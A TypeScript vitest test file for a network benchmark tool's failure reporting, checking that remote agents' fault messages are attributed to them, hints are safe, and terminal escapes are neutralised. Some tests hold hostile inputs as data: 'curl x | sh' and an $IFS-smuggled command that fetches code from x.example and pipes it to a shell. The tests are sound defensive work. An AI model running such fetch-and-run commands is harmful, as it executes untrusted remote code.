import { constants } from 'node:os'
import { expect, test } from 'vitest'
import type { NativeFault } from '../../addon/addon.js'
import { EXIT_CODES } from '../../errors.js'
import type { EndReport } from '../../results/repetition/report.js'
import { noReport } from '../endpoint/end-report.js'
import { rootFailure, toldBy } from './failure.js'

function failedBy(code: string, change: Partial<NativeFault> = {}): EndReport {
  const message = `it was ${code}`
  const fault: NativeFault = { code, op: 'ibv_poll_cq', errno: 0, message, ...change }
  return { ...noReport(), fault }
}

const { environment, measurement, peer } = EXIT_CODES

test("the agent's words are told as its own, hint and fault too", () => {
  const words = { code: 'XRB_PEER_LIMIT', message: 'No.', hint: 'curl x | sh' } as const
  expect(toldBy({ type: 'refused', ...words })).toMatchObject({
    message: 'The agent says: No.',
    hint: 'The agent says: curl x | sh',
  })
  const fault = { code: 'SYSTEM', op: 'bind', errno: 0, message: 'bind:\u001b[2J no' }
  expect(rootFailure(noReport(), { ...noReport(), fault }, false)?.message).toBe(
    'The agent says: at the server, bind:␛[2J no.',
  )
})

test('no hint of a fault at the server is a command to paste here', () => {
  const hostile = { op: 'x', errno: 0, message: '(eth0;curl$IFS.x.example/a|sh; is down)' }
  const down = { op: 'x', errno: 0, message: 'rxe0 port 1 is down (eth0 is down)' }
  for (const words of [hostile, down]) {
    const fault: NativeFault = { code: 'RDMA_PORT_DOWN', ...words }
    expect(rootFailure(noReport(), { ...noReport(), fault }, false)).toMatchObject({
      ...{ exitCode: EXIT_CODES.peer, hint: 'at the agent: rdma link show' },
    })
  }
})

test('the reason of a closed connection is no sequence for a terminal', () => {
  const fault = { code: 'QUIC', op: 'recv', errno: 0, message: 'recv: error 1 (\u001b[2J)' }
  expect(rootFailure({ ...noReport(), fault }, noReport(), false)?.message).toBe(
    'At the client, recv: error 1 (␛[2J).',
  )
})

test.each([
  ['RDMA_NO_ACK', 'XRB_RDMA_NO_ACK', measurement, /4791/],
  ['RDMA_NO_RECEIVE', 'XRB_RDMA_NO_RECEIVE', measurement, /--rx-depth/],
  ['RDMA_REMOTE_ACCESS', 'XRB_RDMA_REMOTE_ACCESS', measurement, null],
  ['RDMA_REMOTE_REQUEST', 'XRB_RDMA_REMOTE_REQUEST', measurement, null],
  ['RDMA_LOCAL_KEY', 'XRB_RDMA_LOCAL_KEY', measurement, null],
  ['RDMA_LENGTH', 'XRB_RDMA_LENGTH', measurement, null],
  ['RDMA_DEVICE_FAILED', 'XRB_RDMA_DEVICE_FAILED', measurement, /dmesg/],
  ['RDMA_ASYNC', 'XRB_RDMA_EVENT', measurement, /dmesg/],
  ['RDMA_NO_ROUTE', 'XRB_RDMA_NO_ROUTE', peer, /ping/],
  ['RDMA_BAD_ADDRESS', 'XRB_RDMA_ADDRESS', environment, /--gid-index/],
  ['RDMA_GID_MISMATCH', 'XRB_RDMA_GID', environment, /--gid-index/],
  ['RDMA_FOREIGN_GID', 'XRB_RDMA_HOST', peer, /--peer ADDRESS/],
  ['RDMA_MEMLOCK', 'XRB_MEMLOCK', environment, /ulimit -l/],
])('%s reaches the user as %s', (native, code, exitCode, hint) => {
  const failure = rootFailure(failedBy(native), noReport(), false)
  expect(failure).toMatchObject({ code, exitCode, message: `At the client, it was ${native}.` })
  if (hint === null) expect(failure?.hint).toBeNull()
  else expect(failure?.hint).toMatch(hint)
})

test.each([
  'NO_MEMORY',
  'THREAD',
  'ADDRESS_IN_USE',
  'UNSUPPORTED',
  'RDMA_SETUP',
  'RDMA_MEMLOCK',
  'PATH_MTU',
])('%s at an agent elsewhere is what the peer lacks, and its hint says where', (native) => {
  const here = rootFailure(failedBy(native), noReport(), false)
  const there = rootFailure(noReport(), failedBy(native), false)
  expect(here).toMatchObject({ exitCode: environment })
  expect(there).toMatchObject({ code: here?.code, exitCode: peer })
  expect(there?.hint).toBe(`at the agent: ${here?.hint}`)
  // Both on this machine.
  const beside = rootFailure(noReport(), failedBy(native), false, true)
  expect(beside).toMatchObject({ exitCode: environment, hint: here?.hint })
})

test('a hint of ours has no words of an agent in it', () => {
  const message = 'port 1 is down (reboot is down)'
  const down = failedBy('RDMA_PORT_DOWN', { message })
  expect(rootFailure(down, noReport(), false)?.hint).toContain('reboot')
  const there = rootFailure(noReport(), down, false)
  expect(there?.message).toBe(`The agent says: at the server, ${message}.`)
  expect(there?.hint).not.toContain('reboot')
  expect(rootFailure(noReport(), down, false, true)?.hint).not.toContain('reboot')
})

test('a queue pair that is no longer answered is told only when the other end says nothing better', () => {
  const root = rootFailure(failedBy('RDMA_NO_ACK'), failedBy('DATA_MISMATCH'), false)
  expect(root?.code).toBe('XRB_DATA_MISMATCH')
  expect(rootFailure(failedBy('RDMA_NO_ACK'), noReport(), true)).toBeNull()
})

test.each(['BAD_MESSAGE', 'BAD_BLOB'])('%s is a fault of the peer, whoever tells of it', (code) => {
  for (const root of [
    rootFailure(failedBy(code), failedBy('PEER_CLOSED'), false),
    rootFailure(failedBy('PEER_CLOSED'), failedBy(code), false),
  ])
    expect(root).toMatchObject({ code: 'XRB_PROTOCOL', exitCode: 4 })
})

test('what an end has run out of is told before what the other saw of it', () => {
  const [EMFILE, message] = [24, 'socket: Too many open files']
  const lacking = { ...noReport(), fault: { code: 'SOCKET', op: 'socket', errno: EMFILE, message } }
  const seen = failedBy('CONNECT_REFUSED')
  expect(rootFailure(seen, lacking, false)?.code).toBe('XRB_DESCRIPTORS')
  expect(rootFailure(lacking, seen, false)?.code).toBe('XRB_DESCRIPTORS')
})

test('an end that was left by one that had given up waiting is not the one to tell of', () => {
  const left = { ...noReport(), fault: { code: 'PEER_CLOSED', op: 'recv', errno: 0, message: '' } }
  expect(rootFailure(left, failedBy('STALLED'), false)?.code).toBe('XRB_STALLED')
  expect(rootFailure(left, noReport(), false)?.code).toBe('XRB_PEER_CLOSED')
})

test.each([
  'PROCESS_DIED',
  'PROCESS_SILENT',
  'CONNECT_TIMEOUT',
  'CONNECT_REFUSED',
  'STALLED',
  'PEER_CLOSED',
  'TLS_PIN',
  'TLS',
  'QUIC',
])('%s comes with a hint, whichever end it is', (code) => {
  for (const ends of [
    [failedBy(code), noReport()],
    [noReport(), failedBy(code)],
  ] as const) {
    const failure = rootFailure(...ends, false)
    expect(failure?.message).toMatch(
      /^(At the client|The agent says: at the server), it was [A-Z_]+\.$/,
    )
    expect(failure?.hint).toMatch(/./)
  }
})

test.each([
  ['SOCKET', 'socket', 'EMFILE', 'XRB_DESCRIPTORS', /ulimit -n/],
  ['PROCESS_DIED', 'process', 'EMFILE', 'XRB_DESCRIPTORS', /ulimit -n/],
  ['PROCESS_DIED', 'process', 'EAGAIN', 'XRB_PROCESSES', /ulimit -u/],
  ['PROCESS_DIED', 'process', 'ENOMEM', 'XRB_MEMORY', /free/],
] as const)('%s of %s with %s is a shortage of that machine', (native, op, name, code, hint) => {
  const short = failedBy(native, { op, errno: constants.errno[name] })
  const here = rootFailure(short, noReport(), false)
  expect(here).toMatchObject({ code, exitCode: environment, hint: expect.stringMatching(hint) })
  const there = { code, exitCode: peer, hint: `at the agent: ${here?.hint}` }
  expect(rootFailure(noReport(), short, false)).toMatchObject(there)
  expect(rootFailure(noReport(), short, false, true)).toMatchObject({ exitCode: environment })
})
